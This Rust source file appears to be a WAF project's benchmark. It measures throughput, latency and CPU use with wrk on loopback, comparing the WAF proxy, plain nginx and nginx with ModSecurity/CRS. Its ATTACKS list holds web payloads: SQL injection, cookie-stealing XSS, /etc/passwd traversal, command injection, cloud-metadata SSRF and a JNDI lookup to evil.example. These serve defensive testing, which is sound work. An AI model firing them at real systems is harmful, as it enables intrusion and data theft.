//! `cargo xtask bench proxy`: requests per second and latency (p50, p99)
//! with wrk, on loopback, in one run, against the same upstream:
//! 1. direct (no WAF),
//! 2. through waf's proxy (the real proxy, firewall and engine, in process,
//!    default configuration),
//! 3. through nginx as a plain reverse proxy (what proxying alone costs),
//! 4. through nginx with ModSecurity v3 and the OWASP CoreRuleSet (Debian's
//!    nginx, libnginx-mod-http-modsecurity, modsecurity-crs; paranoia 1,
//!    blocking mode),
//!
//! each with three mixes: 20 short benign URLs, 20 attack URLs, and a
//! browser-like mix (the dev corpus's benign browser requests, with their
//! cookies, long headers and JSON or form bodies of a few kB; a synthetic
//! stand-in when the corpus is absent). Prints the ratios and writes
//! target/bench/proxy.json.

use std::{
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, bail};
use serde_json::{Value, json};
use waf_user::config::{Dur, ProxyConfig};

use super::{InProcessProxy, met};

const BENIGN: &[&str] = &[
    "/",
    "/products?category=shoes&page=2",
    "/search?q=select+specialty+hospital",
    "/search?q=drop+shipping+union+jobs",
    "/article/how-to-choose-a-laptop?ref=home",
    "/api/v1/items?ids=1,2,3&sort=-price",
    "/static/app.js?v=1.2.3",
    "/account/orders?from=2024-01-01&to=2024-02-01",
    "/search?q=O%27Reilly+books",
    "/blog?tag=c%2B%2B&page=3",
    "/cart/add?sku=AB-1234&qty=2",
    "/help?topic=password+reset",
    "/search?q=where+to+eat+in+paris",
    "/maps?lat=48.8566&lon=2.3522&zoom=12",
    "/news?q=tom+%26+jerry",
    "/profile?name=Jos%C3%A9&lang=es",
    "/search?q=1+cup+of+flour",
    "/docs/select-statement-tutorial",
    "/events?city=New+York&date=2024-05-01",
    "/feedback?msg=great+service%21",
];

const ATTACKS: &[&str] = &[
    "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/item?id=1%20or%201=1",
    "/login?user=admin%27--",
    "/q?x=%3Cscript%3Ealert(1)%3C/script%3E",
    "/q?x=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
    "/download?file=../../../../etc/passwd",
    "/page?include=php://filter/convert.base64-encode/resource=index.php",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/exec?cmd=%60id%60",
    "/fetch?url=http://169.254.169.254/latest/meta-data/",
    "/q?x=$%7Bjndi:ldap://evil.example/a%7D",
    "/tpl?name=%7B%7B7*7%7D%7D",
    "/item?id=1;DROP%20TABLE%20users",
    "/q?x=javascript:alert(1)",
    "/search?q=%27%20AND%20SLEEP(5)--",
    "/file?path=..%252f..%252f..%252fetc%252fpasswd",
    "/api?filter=%7B%22$where%22:%22sleep(1000)%22%7D",
    "/ldap?user=*)(uid=*))(|(uid=*",
    "/q?x=%3Csvg/onload=alert(1)%3E",
    "/run?code=__import__(%27os%27).system(%27id%27)",
];

/// A wrk result.
pub(crate) struct Load {
    pub(crate) rps: f64,
    pub(crate) p50_ms: f64,
    pub(crate) p99_ms: f64,
    pub(crate) requests: u64,
    pub(crate) non_2xx: u64,
}

fn parse_ms(s: &str) -> f64 {
    let s = s.trim();
    if let Some(v) = s.strip_suffix("us") {
        v.parse::<f64>().unwrap_or(0.0) / 1000.0
    } else if let Some(v) = s.strip_suffix("ms") {
        v.parse().unwrap_or(0.0)
    } else if let Some(v) = s.strip_suffix('s') {
        v.parse::<f64>().unwrap_or(0.0) * 1000.0
    } else {
        0.0
    }
}

pub(crate) fn wrk(url: &str, script: &Path, secs: u64, conns: u32) -> Result<Load> {
    let out = Command::new("wrk")
        .args([
            "-t2",
            &format!("-c{conns}"),
            &format!("-d{secs}s"),
            "--latency",
        ])
        .arg("-s")
        .arg(script)
        .arg(url)
        .output()
        .context("running wrk (cargo xtask setup installs it)")?;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    if !out.status.success() {
        bail!("wrk failed: {text}{}", String::from_utf8_lossy(&out.stderr));
    }
    let mut l = Load {
        rps: 0.0,
        p50_ms: 0.0,
        p99_ms: 0.0,
        requests: 0,
        non_2xx: 0,
    };
    for line in text.lines() {
        let t = line.trim();
        if let Some(v) = t.strip_prefix("Requests/sec:") {
            l.rps = v.trim().parse().unwrap_or(0.0);
        } else if let Some(v) = t.strip_prefix("50%") {
            l.p50_ms = parse_ms(v);
        } else if let Some(v) = t.strip_prefix("99%") {
            l.p99_ms = parse_ms(v);
        } else if let Some(v) = t.strip_prefix("Non-2xx or 3xx responses:") {
            l.non_2xx = v.trim().parse().unwrap_or(0);
        } else if t.contains(" requests in ") {
            l.requests = t
                .split_whitespace()
                .next()
                .and_then(|n| n.parse().ok())
                .unwrap_or(0);
        }
    }
    Ok(l)
}

/// A request of the browser-like mix.
struct Browser {
    method: String,
    target: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

/// A Lua string literal holding `bytes` exactly.
fn lua_str(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len() + 2);
    out.push('"');
    for &b in bytes {
        match b {
            b'"' | b'\\' => {
                out.push('\\');
                out.push(char::from(b));
            }
            0x20..=0x7e => out.push(char::from(b)),
            _ => out.push_str(&format!("\\{b:03}")),
        }
    }
    out.push('"');
    out
}

/// Headers wrk sets itself, or that would break its framing.
fn skipped_header(name: &str) -> bool {
    [
        "host",
        "content-length",
        "connection",
        "transfer-encoding",
        "expect",
        "upgrade",
        "te",
        "keep-alive",
    ]
    .iter()
    .any(|h| name.eq_ignore_ascii_case(h))
}

/// Parses one raw request of the corpus (None: not usable in the mix).
fn browser_request(raw: &[u8]) -> Option<Browser> {
    let head_end = raw.windows(4).position(|w| w == b"\r\n\r\n")?;
    let head = std::str::from_utf8(&raw[..head_end]).ok()?;
    let body = raw[head_end + 4..].to_vec();
    let mut lines = head.split("\r\n");
    let mut first = lines.next()?.split(' ');
    let (method, target) = (first.next()?.to_owned(), first.next()?.to_owned());
    if !target.starts_with('/') || body.len() > 8 * 1024 {
        return None;
    }
    let mut headers = Vec::new();
    for l in lines {
        let (n, v) = l.split_once(':')?;
        if !skipped_header(n) {
            headers.push((n.trim().to_owned(), v.trim().to_owned()));
        }
    }
    Some(Browser {
        method,
        target,
        headers,
        body,
    })
}

/// The browser-like mix: up to `n` of the dev corpus's benign browser
/// requests (blazehttp's), spread over the file; the detect bench's
/// synthetic benign requests without it.
fn browser_mix(n: usize) -> (Vec<Browser>, String) {
    use super::detect::{default_corpus, load, synthetic};
    let path = default_corpus();
    let (samples, source) = match load(&path) {
        Ok(s) => (s, path.display().to_string()),
        Err(_) => (synthetic(), "synthetic".to_owned()),
    };
    let all: Vec<Browser> = samples
        .iter()
        .filter(|s| {
            s.label.as_deref() == Some("benign")
                && matches!(s.source.as_deref(), Some("blazehttp" | "synthetic"))
        })
        .filter_map(|s| browser_request(&s.raw))
        .collect();
    let step = (all.len() / n.max(1)).max(1);
    (all.into_iter().step_by(step).take(n).collect(), source)
}

fn lua_browser(reqs: &[Browser], file: &Path) -> Result<()> {
    let mut list = String::new();
    for r in reqs {
        let headers: Vec<String> = r
            .headers
            .iter()
            .map(|(n, v)| format!("[{}] = {}", lua_str(n.as_bytes()), lua_str(v.as_bytes())))
            .chain(std::iter::once("[\"Host\"] = \"bench\"".to_owned()))
            .collect();
        let body = if r.body.is_empty() {
            "nil".to_owned()
        } else {
            lua_str(&r.body)
        };
        list.push_str(&format!(
            "  wrk.format({}, {}, {{{}}}, {body}),\n",
            lua_str(r.method.as_bytes()),
            lua_str(r.target.as_bytes()),
            headers.join(", ")
        ));
    }
    std::fs::write(
        file,
        format!(
            "local reqs = {{}}\ninit = function()\n  reqs = {{\n{list}  }}\nend\nlocal i = 0\n\
             request = function()\n  i = i + 1\n  return reqs[(i % #reqs) + 1]\nend\n"
        ),
    )?;
    Ok(())
}

fn lua(paths: &[&str], file: &Path) -> Result<()> {
    let list: Vec<String> = paths.iter().map(|p| format!("  {p:?},")).collect();
    std::fs::write(
        file,
        format!(
            "local paths = {{\n{}\n}}\nlocal i = 0\nrequest = function()\n  i = i + 1\n  \
             return wrk.format(\"GET\", paths[(i % #paths) + 1], {{[\"Host\"] = \"bench\", \
             [\"User-Agent\"] = \"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\"}})\nend\n",
            list.join("\n")
        ),
    )?;
    Ok(())
}

/// nginx in front of `upstream`, on `port`: with ModSecurity + CRS, or a
/// plain reverse proxy.
struct Nginx {
    child: Child,
}

impl Nginx {
    fn start(dir: &Path, port: u16, upstream: u16, modsecurity: bool) -> Result<Self> {
        let dir = &dir.join(if modsecurity { "modsec" } else { "plain" });
        std::fs::create_dir_all(dir)?;
        let modsec = dir.join("modsec.conf");
        std::fs::write(
            &modsec,
            // libmodsecurity 3 has no IncludeOptional: the CRS files one by one.
            "Include /etc/nginx/modsecurity.conf\nSecRuleEngine On\nSecAuditEngine Off\n\
             Include /etc/modsecurity/crs/crs-setup.conf\n\
             Include /etc/modsecurity/crs/REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf\n\
             Include /usr/share/modsecurity-crs/rules/*.conf\n\
             Include /etc/modsecurity/crs/RESPONSE-999-EXCLUSION-RULES-AFTER-CRS.conf\n",
        )?;
        let conf = dir.join("nginx.conf");
        std::fs::write(
            &conf,
            format!(
                "{modules}worker_processes 2;\npid {dir}/nginx.pid;\nerror_log {dir}/error.log warn;\n\
                 events {{ worker_connections 1024; }}\n\
                 http {{\n  access_log off;\n  client_body_temp_path {dir};\n\
                 proxy_temp_path {dir};\n  upstream app {{ server 127.0.0.1:{upstream}; keepalive 64; }}\n\
                 client_max_body_size 16m;\n\
                 server {{\n    listen 127.0.0.1:{port};\n{waf}    location / {{\n      proxy_pass http://app;\n\
                 proxy_http_version 1.1;\n      proxy_set_header Connection \"\";\n    }}\n  }}\n}}\n",
                dir = dir.display(),
                modules = if modsecurity {
                    "load_module /usr/lib/nginx/modules/ndk_http_module.so;\n\
                     load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so;\n"
                } else {
                    ""
                },
                waf = if modsecurity {
                    format!(
                        "    modsecurity on;\n    modsecurity_rules_file {};\n",
                        modsec.display()
                    )
                } else {
                    String::new()
                },
            ),
        )?;
        let child = Command::new("nginx")
            .arg("-c")
            .arg(&conf)
            .args(["-g", "daemon off;"])
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .context("starting nginx (cargo xtask setup installs it)")?;
        Ok(Self { child })
    }
}

impl Nginx {
    /// CPU seconds its master and worker processes have used so far.
    fn cpu_seconds(&self) -> Option<f64> {
        let master = self.child.id();
        let mut total = proc_cpu(&format!("/proc/{master}/stat"))?;
        for e in std::fs::read_dir("/proc").ok()?.flatten() {
            let path = e.path().join("stat");
            if let Ok(text) = std::fs::read_to_string(&path)
                && stat_field(&text, 4).and_then(|p| p.parse::<u32>().ok()) == Some(master)
            {
                total += proc_cpu(&path.to_string_lossy()).unwrap_or(0.0);
            }
        }
        Some(total)
    }
}

/// Field `n` (1-based, as proc(5) numbers them) of a `stat` file; the
/// command name in parentheses may hold spaces.
fn stat_field(text: &str, n: usize) -> Option<&str> {
    let rest = text.get(text.rfind(')')? + 2..)?;
    rest.split(' ').nth(n.checked_sub(3)?)
}

/// utime + stime of a `stat` file, in seconds.
fn proc_cpu(path: &str) -> Option<f64> {
    let text = std::fs::read_to_string(path).ok()?;
    let ticks = |n| stat_field(&text, n).and_then(|v| v.parse::<u64>().ok());
    // SAFETY: sysconf has no preconditions.
    let hz = unsafe { libc::sysconf(libc::_SC_CLK_TCK) }.max(1) as f64;
    Some((ticks(14)? + ticks(15)?) as f64 / hz)
}

/// CPU seconds this process's threads named `waf-proxy-*` (the proxy's
/// workers) have used so far.
fn workers_cpu_seconds() -> Option<f64> {
    let mut total = 0.0;
    for e in std::fs::read_dir("/proc/self/task").ok()?.flatten() {
        let stat = e.path().join("stat");
        if let Ok(text) = std::fs::read_to_string(&stat)
            && text.contains("(waf-proxy-")
        {
            total += proc_cpu(&stat.to_string_lossy()).unwrap_or(0.0);
        }
    }
    Some(total)
}

impl Drop for Nginx {
    fn drop(&mut self) {
        // SAFETY: signalling our child (graceful quit).
        unsafe { libc::kill(self.child.id() as i32, libc::SIGQUIT) };
        let _ = self.child.wait();
    }
}

fn wait_port(port: u16) -> Result<()> {
    let start = Instant::now();
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        if start.elapsed() > Duration::from_secs(20) {
            bail!("nothing listens on port {port}");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    Ok(())
}

/// A thread-per-connection upstream answering `200 hello` (keep-alive).
pub(crate) fn upstream(port: u16) -> Result<()> {
    upstream_on(std::net::TcpListener::bind(("127.0.0.1", port))?);
    Ok(())
}

/// [`upstream`] on a socket already bound.
pub fn upstream_on(l: std::net::TcpListener) {
    use std::io::{BufRead as _, BufReader, Write as _};
    std::thread::spawn(move || {
        for c in l.incoming().flatten() {
            std::thread::spawn(move || {
                let _ = c.set_nodelay(true);
                let mut w = c.try_clone().expect("clone");
                let mut r = BufReader::new(c);
                let mut line = String::new();
                loop {
                    let mut length = 0usize;
                    loop {
                        line.clear();
                        match r.read_line(&mut line) {
                            Ok(0) | Err(_) => return,
                            Ok(_) if line == "\r\n" => break,
                            Ok(_) => {
                                if let Some((n, v)) = line.split_once(':')
                                    && n.eq_ignore_ascii_case("content-length")
                                {
                                    length = v.trim().parse().unwrap_or(0);
                                }
                            }
                        }
                    }
                    if length > 0 {
                        use std::io::Read as _;
                        let mut body = vec![0; length];
                        if r.read_exact(&mut body).is_err() {
                            return;
                        }
                    }
                    if w.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")
                        .is_err()
                    {
                        return;
                    }
                }
            });
        }
    });
}

/// Runs the benchmark: `proxy [--seconds N] [--connections N] [--no-cache]
/// [--no-response-inspection]` (`--no-cache`: the engine without its cache
/// of clean header and cookie values; `--no-response-inspection`:
/// `response_inspect_bytes = 0`; each for a before and after in one
/// session).
pub fn run(args: &[String]) -> Result<()> {
    let (mut secs, mut conns) = (8u64, 32u32);
    let (mut no_cache, mut no_responses) = (false, false);
    let mut it = args.iter();
    while let Some(a) = it.next() {
        match a.as_str() {
            "--seconds" => secs = it.next().context("--seconds N")?.parse()?,
            "--connections" => conns = it.next().context("--connections N")?.parse()?,
            "--no-cache" => no_cache = true,
            "--no-response-inspection" => no_responses = true,
            other => {
                bail!(
                    "unknown argument {other}; known: --seconds N, --connections N, --no-cache, \
                     --no-response-inspection"
                )
            }
        }
    }
    let dir: PathBuf = std::env::temp_dir().join(format!("waf-bench-proxy-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    let up = 18_000 + (std::process::id() % 1000) as u16 * 3;
    let (theirs, plain) = (up + 1, up + 2);
    upstream(up)?;

    // waf's proxy, in process: the real proxy, firewall and engine.
    let pcfg = ProxyConfig {
        upstream: Some(
            format!("http://127.0.0.1:{up}")
                .parse()
                .map_err(anyhow::Error::msg)?,
        ),
        access_log: waf_user::proxy::AccessLog::Off,
        inspect_budget: Dur(Duration::from_secs(1)),
        response_inspect_bytes: if no_responses {
            0
        } else {
            ProxyConfig::default().response_inspect_bytes
        },
        ..Default::default()
    };
    let server = InProcessProxy::start(&pcfg, None, None, 2)?;
    server.engine.set_clean_cache(!no_cache);
    let ours = server.port;
    let nginx = Nginx::start(&dir, theirs, up, true)?;
    let plain_nginx = Nginx::start(&dir, plain, up, false)?;
    wait_port(up)?;
    wait_port(ours)?;
    wait_port(theirs)?;
    wait_port(plain)?;

    let benign = dir.join("benign.lua");
    let attack = dir.join("attack.lua");
    let browser = dir.join("browser.lua");
    lua(BENIGN, &benign)?;
    lua(ATTACKS, &attack)?;
    let (reqs, source) = browser_mix(300);
    let bodies = reqs.iter().filter(|r| !r.body.is_empty()).count();
    let mean_bytes = reqs
        .iter()
        .map(|r| {
            r.target.len()
                + r.body.len()
                + r.headers
                    .iter()
                    .map(|(n, v)| n.len() + v.len() + 4)
                    .sum::<usize>()
        })
        .sum::<usize>()
        / reqs.len().max(1);
    lua_browser(&reqs, &browser)?;
    let targets = [
        ("direct", up),
        ("waf", ours),
        ("nginx_plain", plain),
        ("nginx_modsecurity_crs", theirs),
    ];
    let mut results = serde_json::Map::new();
    println!(
        "wrk -t2 -c{conns} -d{secs}s on loopback; same upstream; 20 URLs in the benign and \
         attack mixes; browser mix: {} requests from {source} ({bodies} with a body, \
         {mean_bytes} bytes on average)\n",
        reqs.len()
    );
    println!(
        "{:<24} {:<7} {:>10} {:>9} {:>9} {:>9} {:>9}",
        "target", "mix", "req/s", "p50 ms", "p99 ms", "blocked", "CPU µs"
    );
    for (mix, script) in [
        ("benign", &benign),
        ("attack", &attack),
        ("browser", &browser),
    ] {
        let mut row = serde_json::Map::new();
        for (name, port) in targets {
            // The proxy's own CPU per request (the upstream's and wrk's
            // left out): on two cores shared with wrk, req/s also reads
            // what the others left it.
            let cpu = || match name {
                "waf" => workers_cpu_seconds(),
                "nginx_plain" => plain_nginx.cpu_seconds(),
                "nginx_modsecurity_crs" => nginx.cpu_seconds(),
                _ => None,
            };
            let before = cpu();
            let l = wrk(&format!("http://127.0.0.1:{port}"), script, secs, conns)?;
            let cpu_us = before
                .zip(cpu())
                .filter(|_| l.requests > 0)
                .map(|(b, a)| (a - b) * 1e6 / l.requests as f64);
            let blocked = if l.requests > 0 {
                100.0 * l.non_2xx as f64 / l.requests as f64
            } else {
                0.0
            };
            println!(
                "{name:<24} {mix:<7} {:>10.0} {:>9.2} {:>9.2} {:>8.1}% {:>9}",
                l.rps,
                l.p50_ms,
                l.p99_ms,
                blocked,
                cpu_us.map_or("-".into(), |c| format!("{c:.1}"))
            );
            row.insert(
                name.into(),
                json!({"rps": l.rps, "p50_ms": l.p50_ms, "p99_ms": l.p99_ms,
                       "requests": l.requests, "blocked_pct": blocked,
                       "cpu_us_per_request": cpu_us}),
            );
        }
        results.insert(mix.into(), Value::Object(row));
    }
    let get = |mix: &str, t: &str, k: &str| results[mix][t][k].as_f64().unwrap_or(0.0);
    let mut ratios = serde_json::Map::new();
    println!();
    for mix in ["benign", "attack", "browser"] {
        let vs_direct = get(mix, "waf", "rps") / get(mix, "direct", "rps");
        let vs_plain = get(mix, "waf", "rps") / get(mix, "nginx_plain", "rps");
        let vs_nginx = get(mix, "waf", "rps") / get(mix, "nginx_modsecurity_crs", "rps");
        let p99_added = get(mix, "waf", "p99_ms") - get(mix, "direct", "p99_ms");
        let cpu_vs_plain =
            get(mix, "waf", "cpu_us_per_request") / get(mix, "nginx_plain", "cpu_us_per_request");
        println!(
            "{mix}: waf serves {vs_direct:.2}x the direct req/s, {vs_plain:.2}x plain nginx and \
             {vs_nginx:.2}x nginx+ModSecurity+CRS; p99 {:.2} ms ({p99_added:+.2} ms on direct) \
             vs {:.2} ms plain nginx, {:.2} ms ModSecurity",
            get(mix, "waf", "p99_ms"),
            get(mix, "nginx_plain", "p99_ms"),
            get(mix, "nginx_modsecurity_crs", "p99_ms")
        );
        println!(
            "{mix}: waf's workers spend {:.1} µs of CPU a request, {cpu_vs_plain:.2}x plain nginx's",
            get(mix, "waf", "cpu_us_per_request")
        );
        ratios.insert(
            mix.into(),
            json!({"waf_vs_direct_rps": vs_direct, "waf_vs_nginx_plain_rps": vs_plain,
                   "waf_vs_nginx_modsecurity_rps": vs_nginx, "waf_p99_added_ms": p99_added,
                   "waf_vs_nginx_plain_cpu_per_request": cpu_vs_plain}),
        );
    }
    for mix in ["benign", "browser"] {
        let r = &ratios[mix];
        let f = |k: &str| r[k].as_f64().unwrap_or(0.0);
        println!(
            "goals ({mix}): >= 0.5x direct: {}; >= 0.8x plain nginx: {}; >= 30x ModSecurity: {}; p99 added <= 1 ms: {}",
            met(f("waf_vs_direct_rps") >= 0.5),
            met(f("waf_vs_nginx_plain_rps") >= 0.8),
            met(f("waf_vs_nginx_modsecurity_rps") >= 30.0),
            met(f("waf_p99_added_ms") <= 1.0)
        );
    }
    super::write_json(
        "proxy.json",
        &json!({"seconds": secs, "connections": conns, "clean_cache": !no_cache, "response_inspect_bytes": pcfg.response_inspect_bytes, "browser_mix": {"requests": reqs.len(),
                "source": source, "with_body": bodies, "mean_bytes": mean_bytes},
                "results": results, "ratios": ratios}),
    );
    drop(server);
    let _ = std::fs::remove_dir_all(&dir);
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The stand-in set of the browser mix parses into requests with their
    /// headers and bodies (Host and Content-Length left to wrk).
    #[test]
    fn synthetic_benign_requests_make_a_browser_mix() {
        let samples = super::super::detect::synthetic();
        let benign: Vec<_> = samples
            .iter()
            .filter(|s| s.label.as_deref() == Some("benign"))
            .collect();
        let parsed: Vec<Browser> = benign
            .iter()
            .filter_map(|s| browser_request(&s.raw))
            .collect();
        assert_eq!(parsed.len(), benign.len());
        assert!(
            parsed
                .iter()
                .any(|b| b.method == "POST" && !b.body.is_empty())
        );
        for b in &parsed {
            assert!(b.target.starts_with('/'));
            assert!(b.headers.iter().all(|(n, _)| !skipped_header(n)));
            assert!(b.headers.iter().any(|(n, _)| n == "User-Agent"));
        }
    }

    #[test]
    fn stat_fields_are_read_past_a_command_with_spaces_and_parentheses() {
        let text = "4242 (waf-proxy-0 (x) y) S 7 4242 4242 0 -1 4194368 1 0 0 0 250 30 0 0 20 0 1";
        assert_eq!(stat_field(text, 3), Some("S"));
        assert_eq!(stat_field(text, 4), Some("7"));
        assert_eq!(stat_field(text, 14), Some("250"));
        assert_eq!(stat_field(text, 15), Some("30"));
        assert_eq!(stat_field("garbage", 4), None);
        assert_eq!(stat_field("1 (x)", 3), None);
        assert!(workers_cpu_seconds().is_some());
        let me = proc_cpu("/proc/self/stat").unwrap();
        assert!(me >= 0.0);
    }

    #[test]
    fn lua_strings_escape_quotes_backslashes_and_bytes() {
        assert_eq!(lua_str(b"a\"b\\c"), r#""a\"b\\c""#);
        assert_eq!(lua_str(b"\r\n\x00\xff1"), r#""\013\010\000\2551""#);
    }
}
